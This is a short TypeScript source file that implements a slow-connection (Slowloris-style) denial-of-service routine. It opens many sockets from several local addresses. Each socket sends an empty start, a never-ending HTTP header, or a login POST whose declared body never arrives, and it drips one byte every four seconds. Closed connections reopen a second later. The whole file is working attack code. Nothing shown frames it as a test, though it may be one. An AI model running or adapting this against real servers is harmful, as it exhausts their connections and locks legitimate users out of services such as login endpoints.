import net from 'node:net'

/** What a connection sends first, and then a byte at a time: nothing at all, a head without end, a body without end. */
const beginnings = ['', 'GET / HTTP/1.1\r\nHost: siege\r\nX-Slow: ', slowBody()]
const secondMs = 1_000

/**
 * Keeps so many connections open from each network, which ask for nothing, or for ever; those that are closed come again a
 * second later. Returns how to end them.
 */
export function crowdIn(url: string, networks: string[], perNetwork: number): () => void {
  const { hostname, port } = new URL(url)
  const sockets = new Set<net.Socket>()
  let isOver = false

  function connect(network: string, beginning: string): void {
    if (isOver) return
    const socket = net.connect({ host: hostname, port: Number(port), localAddress: network })
    sockets.add(socket)
    socket.on('error', () => {})
    socket.on('connect', () => socket.write(beginning))
    socket.resume()
    socket.once('close', () => {
      sockets.delete(socket)
      setTimeout(() => connect(network, beginning), secondMs).unref()
    })
  }
  for (const network of networks)
    for (let nth = 0; nth < perNetwork; nth++) connect(network, beginnings[nth % beginnings.length]!)
  const dripping = setInterval(() => {
    for (const socket of sockets) if (socket.writable && socket.bytesWritten > 0) socket.write('a')
  }, 4 * secondMs)

  return () => {
    isOver = true
    clearInterval(dripping)
    for (const socket of sockets) socket.destroy()
  }
}

function slowBody(): string {
  const head = [
    'POST /api/auth/login HTTP/1.1',
    'Host: siege',
    'Content-Type: application/json',
    'Content-Length: 60000',
  ]
  return `${head.join('\r\n')}\r\n\r\n{"email":"`
}
